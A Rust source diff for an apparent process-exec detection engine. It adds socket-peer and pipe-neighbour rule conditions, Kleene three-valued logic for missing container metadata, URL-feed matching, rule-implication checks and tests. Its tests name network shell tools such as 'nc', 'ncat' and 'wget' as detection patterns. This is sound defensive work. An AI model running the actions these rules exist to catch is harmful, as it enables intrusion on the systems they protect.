@@ -1,13 +1,13 @@
 //! Rules compiled once: string sets, Aho-Corasick automata and regex sets, evaluated per exec
 //! without allocating (evidence is gathered in a second pass, only for a rule that fired).
 
-use crate::format::{ArgvCond, Cond, Scope, StrDetailed, StrSpec};
+use crate::format::{ArgvCond, Cond, PeerCond, Scope, StrDetailed, StrSpec};
 use crate::ExecView;
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use base64::Engine as _;
 use regex::RegexSet;
 use rustc_hash::FxHashSet;
-use ward_event::{ExecEvent, FdKind, Layer};
+use ward_event::{ContainerMeta, ExecEvent, FdInfo, FdKind, Layer, PodMeta, Protocol};
 
 /// How far `ancestor` looks up the chain.
 pub const MAX_ANCESTORS: usize = 16;
@@ -21,6 +21,10 @@ pub struct StrMatcher {
     contains: Option<AhoCorasick>,
     regex: Option<RegexSet>,
     ignore_case: bool,
+    /// The `contains` strings and regexes as written (folded like the others), for
+    /// [`StrMatcher::covered_by`].
+    contains_raw: Vec<Box<str>>,
+    regex_raw: Vec<Box<str>>,
 }
 
 /// Why a pattern did not compile (the caller adds file and line).
@@ -34,6 +38,34 @@ pub enum PatternError {
     Empty(&'static str),
     #[error("{0}")]
     Invalid(String),
+    /// An error inside a nested condition table (`any` item, `parent`, ...), at that table's
+    /// byte offset in the file, so the loader can name its line.
+    #[error("{error}")]
+    At {
+        offset: usize,
+        error: Box<PatternError>,
+    },
+}
+
+impl PatternError {
+    /// The byte offset of the innermost nested table the error is in, if it is in one.
+    pub fn offset(&self) -> Option<usize> {
+        match self {
+            PatternError::At { offset, .. } => Some(*offset),
+            _ => None,
+        }
+    }
+
+    /// Places the error at `offset` unless a nested table already placed it deeper.
+    fn at(self, offset: usize) -> PatternError {
+        match self {
+            e @ PatternError::At { .. } => e,
+            e => PatternError::At {
+                offset,
+                error: Box::new(e),
+            },
+        }
+    }
 }
 
 impl StrMatcher {
@@ -98,6 +130,8 @@ impl StrMatcher {
             contains,
             regex,
             ignore_case: d.ignore_case,
+            contains_raw: fold(&d.contains),
+            regex_raw: d.regex.iter().map(|r| r.as_str().into()).collect(),
         })
     }
 
@@ -142,7 +176,92 @@ pub struct ArgvMatcher {
     none: Option<StrMatcher>,
     cmdline: Option<StrMatcher>,
     base64: Option<AhoCorasick>,
+    base64_raw: Vec<String>,
     min_args: Option<usize>,
+    max_argc: Option<usize>,
+    url_listed: bool,
+}
+
+/// A compiled condition on a socket peer of stdin or stdout.
+#[derive(Debug, Default)]
+pub struct PeerMatcher {
+    port: Option<Vec<u16>>,
+    ip: Option<StrMatcher>,
+    loopback: Option<bool>,
+    protocol: Option<Vec<Protocol>>,
+}
+
+impl PeerMatcher {
+    fn compile(p: &PeerCond) -> Result<PeerMatcher, PatternError> {
+        if p.port.as_ref().is_some_and(Vec::is_empty) {
+            return Err(PatternError::Empty("peer port"));
+        }
+        if p.protocol.as_ref().is_some_and(Vec::is_empty) {
+            return Err(PatternError::Empty("peer protocol"));
+        }
+        Ok(PeerMatcher {
+            port: p.port.clone(),
+            ip: p
+                .ip
+                .as_ref()
+                .map(|s| StrMatcher::compile(s, "peer ip"))
+                .transpose()?,
+            loopback: p.loopback,
+            protocol: p.protocol.clone(),
+        })
+    }
+
+    /// The peer's text form when `fd` is a connected inet socket whose peer matches.
+    fn matches(&self, fd: &FdInfo, note: &mut dyn FnMut(&str, &str), what: &str) -> bool {
+        let Some(s) = fd.remote_peer() else {
+            return false;
+        };
+        if self
+            .port
+            .as_ref()
+            .is_some_and(|p| !p.contains(&s.remote_port))
+            || self
+                .protocol
+                .as_ref()
+                .is_some_and(|p| !p.contains(&s.protocol))
+            || self
+                .loopback
+                .is_some_and(|l| l != s.remote_ip.is_loopback())
+        {
+            return false;
+        }
+        if let Some(m) = &self.ip {
+            // Formatted into a per-thread buffer: no allocation once it has grown.
+            let held = PEER.with(|b| {
+                use std::fmt::Write as _;
+                let mut t = b.borrow_mut();
+                t.clear();
+                let _ = write!(t, "{}", s.remote_ip);
+                m.is_match(&t)
+            });
+            if !held {
+                return false;
+            }
+        }
+        if what.is_empty() {
+            return true;
+        }
+        use std::fmt::Write as _;
+        let mut shown = String::new();
+        let _ = match s.remote_ip {
+            std::net::IpAddr::V6(ip) => write!(shown, "[{ip}]:{}", s.remote_port),
+            ip => write!(shown, "{ip}:{}", s.remote_port),
+        };
+        note(what, &shown);
+        true
+    }
+
+    fn implies(&self, b: &PeerMatcher) -> bool {
+        sub_list(&self.port, &b.port)
+            && covered(&self.ip, &b.ip)
+            && (b.loopback.is_none() || self.loopback == b.loopback)
+            && sub_list(&self.protocol, &b.protocol)
+    }
 }
 
 /// A compiled condition tree.
@@ -156,11 +275,15 @@ pub struct Matcher {
     uid: Option<Vec<u32>>,
     stdin: Option<Vec<FdKind>>,
     stdout: Option<Vec<FdKind>>,
+    stdin_peer: Option<PeerMatcher>,
+    stdout_peer: Option<PeerMatcher>,
     image: Option<StrMatcher>,
     namespace: Option<StrMatcher>,
     labels: Vec<(String, StrMatcher)>,
     parent: Option<Box<Matcher>>,
     ancestor: Option<Box<Matcher>>,
+    stdin_writer: Option<Box<Matcher>>,
+    stdout_reader: Option<Box<Matcher>>,
     any: Vec<Matcher>,
     not: Option<Box<Matcher>>,
 }
@@ -203,7 +326,11 @@ impl Matcher {
         let sub =
             |x: &Option<Box<toml::Spanned<Cond>>>| -> Result<Option<Box<Matcher>>, PatternError> {
                 x.as_ref()
-                    .map(|b| Matcher::compile(b.get_ref()).map(Box::new))
+                    .map(|b| {
+                        Matcher::compile(b.get_ref())
+                            .map(Box::new)
+                            .map_err(|e| e.at(b.span().start))
+                    })
                     .transpose()
             };
         let mut any = Vec::new();
@@ -212,7 +339,7 @@ impl Matcher {
                 return Err(PatternError::Empty("any"));
             }
             for a in v {
-                any.push(Matcher::compile(a.get_ref())?);
+                any.push(Matcher::compile(a.get_ref()).map_err(|e| e.at(a.span().start))?);
             }
         }
         let m = Matcher {
@@ -224,11 +351,23 @@ impl Matcher {
             uid: c.uid.clone(),
             stdin: c.stdin.clone(),
             stdout: c.stdout.clone(),
+            stdin_peer: c
+                .stdin_peer
+                .as_ref()
+                .map(PeerMatcher::compile)
+                .transpose()?,
+            stdout_peer: c
+                .stdout_peer
+                .as_ref()
+                .map(PeerMatcher::compile)
+                .transpose()?,
             image: s(&c.image, "image")?,
             namespace: s(&c.namespace, "namespace")?,
             labels,
             parent: sub(&c.parent)?,
             ancestor: sub(&c.ancestor)?,
+            stdin_writer: sub(&c.stdin_writer)?,
+            stdout_reader: sub(&c.stdout_reader)?,
             any,
             not: sub(&c.not)?,
         };
@@ -237,7 +376,94 @@ impl Matcher {
                 "a condition table with no condition in it (it would match every exec)".into(),
             ));
         }
+        for (what, peer, raw) in [
+            ("stdin_writer", &m.stdin_writer, &c.stdin_writer),
+            ("stdout_reader", &m.stdout_reader, &c.stdout_reader),
+        ] {
+            if peer.as_ref().is_some_and(|p| p.looks_beyond_itself()) {
+                let e = PatternError::Invalid(format!(
+                    "{what}: a pipe neighbour is judged on its own exec; parent, ancestor, \
+                     stdin_writer and stdout_reader are not available inside it"
+                ));
+                return Err(e.at(raw.as_ref().map_or(0, |r| r.span().start)));
+            }
+        }
         Ok(m)
+    }
+
+    /// The basenames an exec must have for this tree to hold, when the tree says so: its own
+    /// plain `basename` list, or else the union of its `any` branches' when every branch
+    /// has one. Rules are indexed by these names and tried only for execs that bear one.
+    pub(crate) fn gate_names(&self) -> Option<Vec<&str>> {
+        if let Some(names) = self.basename.as_ref().and_then(|b| b.exact_only()) {
+            return Some(names.collect());
+        }
+        if self.any.is_empty() {
+            return None;
+        }
+        let mut all = Vec::new();
+        for m in &self.any {
+            all.extend(m.gate_names()?);
+        }
+        all.sort_unstable();
+        all.dedup();
+        Some(all)
+    }
+
+    /// Whether this tree (or a branch of it) needs more than the exec itself.
+    fn looks_beyond_itself(&self) -> bool {
+        self.parent.is_some()
+            || self.ancestor.is_some()
+            || self.stdin_writer.is_some()
+            || self.stdout_reader.is_some()
+            || self.any.iter().any(Matcher::looks_beyond_itself)
+            || self.not.as_ref().is_some_and(|n| n.looks_beyond_itself())
+    }
+
+    /// Whether this tree has a condition on container metadata (image, namespace, labels)
+    /// anywhere, including the ancestry and neighbours.
+    pub fn uses_metadata(&self) -> bool {
+        self.image.is_some()
+            || self.namespace.is_some()
+            || !self.labels.is_empty()
+            || [
+                &self.parent,
+                &self.ancestor,
+                &self.not,
+                &self.stdin_writer,
+                &self.stdout_reader,
+            ]
+            .into_iter()
+            .flatten()
+            .any(|m| m.uses_metadata())
+            || self.any.iter().any(Matcher::uses_metadata)
+    }
+
+    /// Whether this tree asks the URL feed (`argv.url_listed`), anywhere.
+    pub fn uses_url_feed(&self) -> bool {
+        self.argv.as_ref().is_some_and(|a| a.url_listed)
+            || [
+                &self.parent,
+                &self.ancestor,
+                &self.not,
+                &self.stdin_writer,
+                &self.stdout_reader,
+            ]
+            .into_iter()
+            .flatten()
+            .any(|m| m.uses_url_feed())
+            || self.any.iter().any(Matcher::uses_url_feed)
+    }
+
+    /// Whether this tree asks about pipe neighbours (anywhere, including the ancestry).
+    pub fn uses_pipe_neighbours(&self) -> bool {
+        self.stdin_writer.is_some()
+            || self.stdout_reader.is_some()
+            || [&self.parent, &self.ancestor, &self.not]
+                .into_iter()
+                .flatten()
+                .any(|m| m.uses_pipe_neighbours())
+            || self.any.iter().any(Matcher::uses_pipe_neighbours)
     }
 
     fn is_empty(&self) -> bool {
@@ -249,17 +475,23 @@ impl Matcher {
             && self.uid.is_none()
             && self.stdin.is_none()
             && self.stdout.is_none()
+            && self.stdin_peer.is_none()
+            && self.stdout_peer.is_none()
             && self.image.is_none()
             && self.namespace.is_none()
             && self.labels.is_empty()
             && self.parent.is_none()
             && self.ancestor.is_none()
+            && self.stdin_writer.is_none()
+            && self.stdout_reader.is_none()
             && self.any.is_empty()
             && self.not.is_none()
     }
 
     /// Does the exec at `depth` of `view` (0 = the exec itself, 1 = its parent, ...) satisfy
-    /// this? With `ev`, records the conditions that held.
+    /// this? With `ev`, records the conditions that held. A condition that cannot be decided
+    /// (container metadata missing) counts as not holding here; [`Matcher::truth`] tells the
+    /// two apart.
     pub fn eval(
         &self,
         view: &dyn ExecView,
@@ -267,129 +499,490 @@ impl Matcher {
         ev: &mut Option<&mut Vec<Evidence>>,
         prefix: &str,
     ) -> bool {
+        self.truth(view, depth, ev, prefix) == Truth::True
+    }
+
+    /// Three-valued [`eval`](Self::eval): `Unknown` when the answer depends on container
+    /// metadata (image, namespace, labels) that the exec lacks (Kleene logic: `F` and `U` is
+    /// `F`, `T` or `U` is `T`, not `U` is `U`). With `ev`, records the conditions that held
+    /// and, as `<missing>`, the ones that could not be decided.
+    pub fn truth(
+        &self,
+        view: &dyn ExecView,
+        depth: usize,
+        ev: &mut Option<&mut Vec<Evidence>>,
+        prefix: &str,
+    ) -> Truth {
         let Some(e) = view.at(depth) else {
-            return false;
+            return Truth::False;
         };
-        let mut note = |field: &str, value: &str| {
-            if let Some(v) = ev.as_deref_mut() {
-                v.push(Evidence {
-                    field: format!("{prefix}{field}"),
-                    value: value.to_string(),
-                });
-            }
-        };
+        let recording = ev.is_some();
+        // Conditions that could not be decided; the result is Unknown unless one is False.
+        let mut unknown = false;
         if let Some(s) = self.scope {
             let in_container = e.container_id.is_some();
             if in_container != (s == Scope::Container) {
-                return false;
+                return Truth::False;
             }
         }
         if let Some(b) = &self.basename {
             let (f, r) = (basename(&e.filename), basename(&e.binary.path));
             if b.is_match(f) {
-                note("basename", f);
+                note(ev, prefix, "basename", f);
             } else if b.is_match(r) {
-                note("basename", r);
+                note(ev, prefix, "basename", r);
             } else {
-                return false;
+                return Truth::False;
             }
         }
         if let Some(x) = &self.exe {
             if !x.is_match(&e.binary.path) {
-                return false;
+                return Truth::False;
             }
-            note("exe", &e.binary.path);
+            note(ev, prefix, "exe", &e.binary.path);
         }
         if let Some(l) = &self.layer {
             if !l.contains(&e.binary.layer) {
-                return false;
+                return Truth::False;
             }
-            note("layer", e.binary.layer.as_str());
+            note(ev, prefix, "layer", e.binary.layer.as_str());
         }
         if let Some(u) = &self.uid {
             if !u.contains(&e.uid) {
-                return false;
+                return Truth::False;
             }
         }
         if let Some(k) = &self.stdin {
             if !k.contains(&e.stdio[0].kind) {
-                return false;
+                return Truth::False;
             }
         }
         if let Some(k) = &self.stdout {
             if !k.contains(&e.stdio[1].kind) {
-                return false;
+                return Truth::False;
             }
         }
-        let meta = e.container.as_ref();
+        for (p, fd, what) in [
+            (&self.stdin_peer, &e.stdio[0], "stdin_peer"),
+            (&self.stdout_peer, &e.stdio[1], "stdout_peer"),
+        ] {
+            if let Some(p) = p {
+                // The peer's text is only built when evidence is wanted.
+                let what = if recording { what } else { "" };
+                if !p.matches(fd, &mut |f, v| note(ev, prefix, f, v), what) {
+                    return Truth::False;
+                }
+            }
+        }
+        let meta = Meta::of(e);
         if let Some(m) = &self.image {
-            match meta.map(|m| m.image.as_str()).filter(|i| m.is_match(i)) {
-                Some(i) => note("image", i),
-                None => return false,
+            match meta.image() {
+                Known(Some(i)) if m.is_match(i) => note(ev, prefix, "image", i),
+                Known(_) => return Truth::False,
+                Missing => {
+                    note(ev, prefix, "image", MISSING);
+                    unknown = true;
+                }
             }
         }
         if let Some(m) = &self.namespace {
-            match meta
-                .and_then(|m| m.pod.as_ref())
-                .map(|p| p.namespace.as_str())
-                .filter(|n| m.is_match(n))
-            {
-                Some(n) => note("namespace", n),
-                None => return false,
+            match meta.namespace() {
+                Known(Some(n)) if m.is_match(n) => note(ev, prefix, "namespace", n),
+                Known(_) => return Truth::False,
+                Missing => {
+                    note(ev, prefix, "namespace", MISSING);
+                    unknown = true;
+                }
             }
         }
         for (k, m) in &self.labels {
-            let v = meta.and_then(|c| {
-                c.labels
-                    .get(k)
-                    .or_else(|| c.pod.as_ref().and_then(|p| p.labels.get(k)))
-            });
-            if !v.is_some_and(|v| m.is_match(v)) {
-                return false;
+            match meta.label(k) {
+                Known(Some(v)) if m.is_match(v) => {}
+                Known(_) => return Truth::False,
+                Missing => unknown = true,
+            }
+        }
+        // Pipe neighbours before argv (a lookup is cheaper than argv patterns), and only
+        // looked up for a condition that asks.
+        for (cond, what, writer) in [
+            (&self.stdin_writer, "stdin_writer.", true),
+            (&self.stdout_reader, "stdout_reader.", false),
+        ] {
+            let Some(cond) = cond else { continue };
+            let peer = if writer {
+                view.stdin_writer(depth)
+            } else {
+                view.stdout_reader(depth)
+            };
+            let Some(peer) = peer else {
+                return Truth::False;
+            };
+            let pre = evidence_prefix(ev, prefix, what);
+            match cond.truth(&Single(peer, view), 0, ev, &pre) {
+                Truth::False => return Truth::False,
+                Truth::Unknown => unknown = true,
+                Truth::True => {}
             }
         }
         if let Some(a) = &self.argv {
-            if !eval_argv(a, e, &mut note) {
-                return false;
+            if !eval_argv(a, e, view, &mut |f, v| note(ev, prefix, f, v)) {
+                return Truth::False;
             }
         }
         if let Some(p) = &self.parent {
-            let pre = format!("{prefix}parent.");
-            if !p.eval(view, depth + 1, ev, &pre) {
-                return false;
+            // The prefix is only built when evidence is wanted: no allocation otherwise.
+            let pre = evidence_prefix(ev, prefix, "parent.");
+            match p.truth(view, depth + 1, ev, &pre) {
+                Truth::False => return Truth::False,
+                Truth::Unknown => unknown = true,
+                Truth::True => {}
             }
         }
         if let Some(a) = &self.ancestor {
-            let found = (depth + 1..=depth + MAX_ANCESTORS)
-                .take_while(|d| view.at(*d).is_some())
-                .find(|d| a.eval(view, *d, &mut None, ""));
-            match found {
-                Some(d) => {
+            let mut best: Option<(usize, Truth)> = None;
+            for d in (depth + 1..=depth + MAX_ANCESTORS).take_while(|d| view.at(*d).is_some()) {
+                match a.truth(view, d, &mut None, "") {
+                    Truth::True => {
+                        best = Some((d, Truth::True));
+                        break;
+                    }
+                    Truth::Unknown if best.is_none() => best = Some((d, Truth::Unknown)),
+                    _ => {}
+                }
+            }
+            match best {
+                None => return Truth::False,
+                Some((d, t)) => {
+                    unknown |= t == Truth::Unknown;
                     if ev.is_some() {
                         let pre = format!("{prefix}ancestor[{}].", d - depth);
-                        a.eval(view, d, ev, &pre);
+                        a.truth(view, d, ev, &pre);
                     }
                 }
-                None => return false,
             }
         }
         if !self.any.is_empty() {
-            match self.any.iter().find(|m| m.eval(view, depth, &mut None, "")) {
+            let mut undecided = None;
+            let mut held = None;
+            for m in &self.any {
+                match m.truth(view, depth, &mut None, "") {
+                    Truth::True => {
+                        held = Some(m);
+                        break;
+                    }
+                    Truth::Unknown if undecided.is_none() => undecided = Some(m),
+                    _ => {}
+                }
+            }
+            match held.or(undecided) {
+                None => return Truth::False,
                 Some(m) => {
+                    unknown |= held.is_none();
                     if ev.is_some() {
-                        m.eval(view, depth, ev, prefix);
+                        m.truth(view, depth, ev, prefix);
                     }
                 }
-                None => return false,
             }
         }
         if let Some(n) = &self.not {
-            if n.eval(view, depth, &mut None, "") {
-                return false;
+            match n.truth(view, depth, &mut None, "") {
+                Truth::True => return Truth::False,
+                Truth::Unknown => unknown = true,
+                Truth::False => {}
             }
         }
-        true
+        if unknown {
+            Truth::Unknown
+        } else {
+            Truth::True
+        }
     }
+}
+
+// Implication between compiled conditions, for the loader's shadowed-rule check: `a.implies(b)`
+// is true only when every exec that satisfies `a` satisfies `b` (sound, not complete: false
+// means "not shown", never "shown not to").
+
+impl StrMatcher {
+    /// Every string this matches, `other` matches too (as far as can be shown).
+    pub(crate) fn covered_by(&self, other: &StrMatcher) -> bool {
+        if self.ignore_case && !other.ignore_case {
+            return false;
+        }
+        let fold = |s: &str| -> String {
+            if other.ignore_case {
+                s.to_ascii_lowercase()
+            } else {
+                s.to_string()
+            }
+        };
+        self.exact.iter().all(|e| other.is_match(e))
+            && self.prefix.iter().all(|p| {
+                let p = fold(p);
+                other.prefix.iter().any(|q| p.starts_with(&**q))
+                    || other.contains_raw.iter().any(|c| p.contains(&**c))
+            })
+            && self.suffix.iter().all(|x| {
+                let x = fold(x);
+                other.suffix.iter().any(|q| x.ends_with(&**q))
+                    || other.contains_raw.iter().any(|c| x.contains(&**c))
+            })
+            && self.contains_raw.iter().all(|c| {
+                let c = fold(c);
+                other.contains_raw.iter().any(|q| c.contains(&**q))
+            })
+            && self.regex_raw.iter().all(|r| other.regex_raw.contains(r))
+    }
+}
+
+fn covered(a: &Option<StrMatcher>, b: &Option<StrMatcher>) -> bool {
+    match (a, b) {
+        (_, None) => true,
+        (Some(a), Some(b)) => a.covered_by(b),
+        (None, Some(_)) => false,
+    }
+}
+
+fn sub_list<T: PartialEq>(a: &Option<Vec<T>>, b: &Option<Vec<T>>) -> bool {
+    match (a, b) {
+        (_, None) => true,
+        (Some(a), Some(b)) => a.iter().all(|x| b.contains(x)),
+        (None, Some(_)) => false,
+    }
+}
+
+fn sub_box(a: &Option<Box<Matcher>>, b: &Option<Box<Matcher>>) -> bool {
+    match (a, b) {
+        (_, None) => true,
+        (Some(a), Some(b)) => a.implies(b),
+        (None, Some(_)) => false,
+    }
+}
+
+impl ArgvMatcher {
+    fn implies(&self, b: &ArgvMatcher) -> bool {
+        covered(&self.any, &b.any)
+            // No argument matches self.none, so none matches b.none if b.none ⊆ self.none.
+            && match (&self.none, &b.none) {
+                (_, None) => true,
+                (Some(a), Some(b)) => b.covered_by(a),
+                (None, Some(_)) => false,
+            }
+            && covered(&self.cmdline, &b.cmdline)
+            && (b.base64.is_none()
+                || (self.base64.is_some()
+                    && self
+                        .base64_raw
+                        .iter()
+                        .all(|n| b.base64_raw.iter().any(|m| n.contains(m.as_str())))))
+            && b.min_args.is_none_or(|m| self.min_args.is_some_and(|n| n >= m))
+            && b.max_argc.is_none_or(|m| self.max_argc.is_some_and(|n| n <= m))
+            && (!b.url_listed || self.url_listed)
+    }
+}
+
+impl Matcher {
+    /// Every exec (with its ancestry and neighbours) that satisfies `self` satisfies `b`, as
+    /// far as can be shown field by field.
+    pub(crate) fn implies(&self, b: &Matcher) -> bool {
+        // Each of b's conditions must follow from self's own fields, or from every branch of
+        // self's `any`.
+        let branches = |f: &dyn Fn(&Matcher) -> bool| {
+            f(self) || (!self.any.is_empty() && self.any.iter().all(f))
+        };
+        (b.scope.is_none() || branches(&|m| m.scope == b.scope))
+            && (b.exe.is_none() || branches(&|m| covered(&m.exe, &b.exe)))
+            && (b.basename.is_none() || branches(&|m| covered(&m.basename, &b.basename)))
+            && (b.layer.is_none() || branches(&|m| sub_list(&m.layer, &b.layer)))
+            && (b.uid.is_none() || branches(&|m| sub_list(&m.uid, &b.uid)))
+            && (b.stdin.is_none() || branches(&|m| sub_list(&m.stdin, &b.stdin)))
+            && (b.stdout.is_none() || branches(&|m| sub_list(&m.stdout, &b.stdout)))
+            && (b.stdin_peer.is_none()
+                || branches(&|m| match (&m.stdin_peer, &b.stdin_peer) {
+                    (Some(a), Some(bb)) => a.implies(bb),
+                    _ => false,
+                }))
+            && (b.stdout_peer.is_none()
+                || branches(&|m| match (&m.stdout_peer, &b.stdout_peer) {
+                    (Some(a), Some(bb)) => a.implies(bb),
+                    _ => false,
+                }))
+            && (b.image.is_none() || branches(&|m| covered(&m.image, &b.image)))
+            && (b.namespace.is_none() || branches(&|m| covered(&m.namespace, &b.namespace)))
+            && b.labels.iter().all(|(k, lb)| {
+                branches(&|m| m.labels.iter().any(|(j, la)| j == k && la.covered_by(lb)))
+            })
+            && (b.argv.is_none()
+                || branches(&|m| match (&m.argv, &b.argv) {
+                    (Some(a), Some(bb)) => a.implies(bb),
+                    _ => false,
+                }))
+            && (b.parent.is_none() || branches(&|m| sub_box(&m.parent, &b.parent)))
+            && (b.ancestor.is_none()
+                || branches(&|m| {
+                    sub_box(&m.ancestor, &b.ancestor) || sub_box(&m.parent, &b.ancestor)
+                }))
+            && (b.stdin_writer.is_none()
+                || branches(&|m| sub_box(&m.stdin_writer, &b.stdin_writer)))
+            && (b.stdout_reader.is_none()
+                || branches(&|m| sub_box(&m.stdout_reader, &b.stdout_reader)))
+            // b's `any` holds if one of its branches follows from self.
+            && (b.any.is_empty() || b.any.iter().any(|x| self.implies(x)))
+            // not B follows from not A when B implies A.
+            && match &b.not {
+                None => true,
+                Some(nb) => branches(&|m| m.not.as_ref().is_some_and(|na| nb.implies(na))),
+            }
+    }
+}
+
+/// A condition's value: holds, does not hold, or cannot be decided (container metadata
+/// missing).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Truth {
+    False,
+    Unknown,
+    True,
+}
+
+/// The evidence value of a condition on metadata the exec lacks.
+pub const MISSING: &str = "<missing>";
+
+/// Container metadata of an exec, as the metadata conditions see it.
+enum Meta<'a> {
+    /// A host exec: no image, namespace or labels, for certain.
+    Host,
+    /// In a container whose metadata the runtime did not give (yet): undecidable.
+    Missing,
+    Present(&'a ContainerMeta),
+}
+
+/// A metadata value: known (present or absent for certain), or missing.
+enum Lookup<'a> {
+    Known(Option<&'a str>),
+    Missing,
+}
+use Lookup::{Known, Missing};
+
+impl<'a> Meta<'a> {
+    fn of(e: &'a ExecEvent) -> Meta<'a> {
+        match (&e.container_id, &e.container) {
+            (None, _) => Meta::Host,
+            (Some(_), None) => Meta::Missing,
+            // The enricher gives a note and no image when the runtime could not be asked.
+            (Some(_), Some(m)) if m.image.is_empty() && m.note.is_some() => Meta::Missing,
+            (Some(_), Some(m)) => Meta::Present(m),
+        }
+    }
+
+    fn image(&self) -> Lookup<'a> {
+        match self {
+            Meta::Host => Known(None),
+            Meta::Missing => Missing,
+            Meta::Present(m) => Known(Some(m.image.as_str())),
+        }
+    }
+
+    /// A container without a pod is not in Kubernetes, unless the enricher noted that the
+    /// metadata is partial.
+    fn pod(&self) -> Result<Option<&'a PodMeta>, ()> {
+        match self {
+            Meta::Host => Ok(None),
+            Meta::Missing => Err(()),
+            Meta::Present(m) if m.pod.is_none() && m.note.is_some() => Err(()),
+            Meta::Present(m) => Ok(m.pod.as_ref()),
+        }
+    }
+
+    fn namespace(&self) -> Lookup<'a> {
+        match self.pod() {
+            Ok(p) => Known(p.map(|p| p.namespace.as_str())),
+            Err(()) => Missing,
+        }
+    }
+
+    fn label(&self, k: &str) -> Lookup<'a> {
+        if let Meta::Present(m) = self {
+            if let Some(v) = m.labels.get(k) {
+                return Known(Some(v.as_str()));
+            }
+        }
+        match self.pod() {
+            Ok(p) => Known(p.and_then(|p| p.labels.get(k)).map(String::as_str)),
+            Err(()) => Missing,
+        }
+    }
+}
+
+/// Records that `prefix` + `field` held with `value`, when evidence is being recorded.
+fn note(ev: &mut Option<&mut Vec<Evidence>>, prefix: &str, field: &str, value: &str) {
+    if let Some(v) = ev.as_deref_mut() {
+        v.push(Evidence {
+            field: format!("{prefix}{field}"),
+            value: value.to_string(),
+        });
+    }
+}
+
+/// `prefix` + `what` when evidence is being recorded; an empty (unallocated) string otherwise.
+fn evidence_prefix(ev: &Option<&mut Vec<Evidence>>, prefix: &str, what: &str) -> String {
+    if ev.is_some() {
+        format!("{prefix}{what}")
+    } else {
+        String::new()
+    }
+}
+
+/// One exec on its own (a pipe neighbour): no ancestry, no neighbours.
+struct Single<'a>(&'a ExecEvent, &'a dyn ExecView);
+
+impl ExecView for Single<'_> {
+    fn at(&self, depth: usize) -> Option<&ExecEvent> {
+        (depth == 0).then_some(self.0)
+    }
+    fn stdin_writer(&self, _depth: usize) -> Option<&ExecEvent> {
+        None
+    }
+    /// The feed is the outer view's.
+    fn url_listed(&self, url: &str) -> bool {
+        self.1.url_listed(url)
+    }
+}
+
+/// The URLs in `arg`: from a `http://`, `https://` or `ftp://` scheme (any case) to the first
+/// space, quote, backquote or shell operator. Slices of `arg`: no allocation.
+pub(crate) fn urls(arg: &str) -> impl Iterator<Item = &str> {
+    let b = arg.as_bytes();
+    let mut from = 0;
+    std::iter::from_fn(move || {
+        while let Some(i) = arg[from..].find("://").map(|i| i + from) {
+            from = i + 3;
+            let start = ["https", "http", "ftp"].iter().find_map(|s| {
+                let n = s.len();
+                if i >= n && b[i - n..i].eq_ignore_ascii_case(s.as_bytes()) {
+                    Some(i - n)
+                } else {
+                    None
+                }
+            });
+            let Some(start) = start else { continue };
+            // The scheme must start the argument or follow a non-alphanumeric character.
+            if start > 0 && b[start - 1].is_ascii_alphanumeric() {
+                continue;
+            }
+            let end = arg[i + 3..]
+                .find(|c: char| {
+                    c.is_whitespace()
+                        || matches!(c, '"' | '\'' | '`' | '|' | ';' | '&' | '<' | '>' | ')')
+                })
+                .map_or(arg.len(), |j| i + 3 + j);
+            if end > i + 3 {
+                from = end;
+                return Some(&arg[start..end]);
+            }
+        }
+        None
+    })
 }
 
 fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
@@ -415,25 +1008,60 @@ fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
             .map(|s| StrMatcher::compile(s, "argv.cmdline"))
             .transpose()?,
         base64,
+        base64_raw: a.base64_contains.clone().unwrap_or_default(),
         min_args: a.min_args,
+        max_argc: a.max_argc,
+        url_listed: match a.url_listed {
+            Some(false) => {
+                return Err(PatternError::Invalid(
+                    "argv.url_listed = false is no condition; write `not = { argv = { url_listed = true } }`"
+                        .into(),
+                ))
+            }
+            Some(true) => true,
+            None => false,
+        },
     };
     if m.any.is_none()
         && m.none.is_none()
         && m.cmdline.is_none()
         && m.base64.is_none()
         && m.min_args.is_none()
+        && m.max_argc.is_none()
+        && !m.url_listed
     {
         return Err(PatternError::Empty("argv"));
     }
     Ok(m)
 }
 
-fn eval_argv(a: &ArgvMatcher, e: &ExecEvent, note: &mut dyn FnMut(&str, &str)) -> bool {
+fn eval_argv(
+    a: &ArgvMatcher,
+    e: &ExecEvent,
+    view: &dyn ExecView,
+    note: &mut dyn FnMut(&str, &str),
+) -> bool {
     let args = e.argv.get(1..).unwrap_or(&[]);
+    if a.url_listed {
+        match args
+            .iter()
+            .flat_map(|x| urls(x))
+            .find(|u| view.url_listed(u))
+        {
+            Some(u) => note("argv.url", u),
+            None => return false,
+        }
+    }
     if let Some(n) = a.min_args {
         if args.len() < n {
             return false;
         }
+    }
+    if let Some(n) = a.max_argc {
+        if e.argv.len() > n {
+            return false;
+        }
+        note("argc", &e.argv.len().to_string());
     }
     if let Some(m) = &a.any {
         match args.iter().find(|x| m.is_match(x)) {
@@ -482,6 +1110,7 @@ const MIN_B64_RUN: usize = 16;
 thread_local! {
     static CMDLINE: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
     static DECODED: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
+    static PEER: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
 }
 
 /// Decodes each base64 run in `arg` and returns the first decoded text holding a needle.
@@ -548,6 +1177,140 @@ mod tests {
         assert!(base64_hit(&ac(&["wget"]), &arg).is_none());
         // Ordinary words and short runs are not decoded.
         assert!(base64_hit(&ac(&["a"]), "--output=/tmp/file").is_none());
+    }
+
+    fn cond(toml_text: &str) -> Matcher {
+        let c: Cond = toml::from_str(toml_text).unwrap();
+        Matcher::compile(&c).unwrap()
+    }
+
+    #[test]
+    fn implication_is_shown_field_by_field() {
+        let implies = |a: &str, b: &str| cond(a).implies(&cond(b));
+        // Exact names against the other side's patterns, case folding one way only.
+        assert!(implies(
+            "basename = [\"nc\"]",
+            "basename = [\"nc\", \"ncat\"]"
+        ));
+        assert!(!implies(
+            "basename = [\"nc\", \"ncat\"]",
+            "basename = [\"nc\"]"
+        ));
+        assert!(implies(
+            "basename = [\"NC\"]",
+            "basename = { equals = [\"nc\"], ignore_case = true }"
+        ));
+        assert!(!implies(
+            "basename = { equals = [\"nc\"], ignore_case = true }",
+            "basename = [\"nc\"]"
+        ));
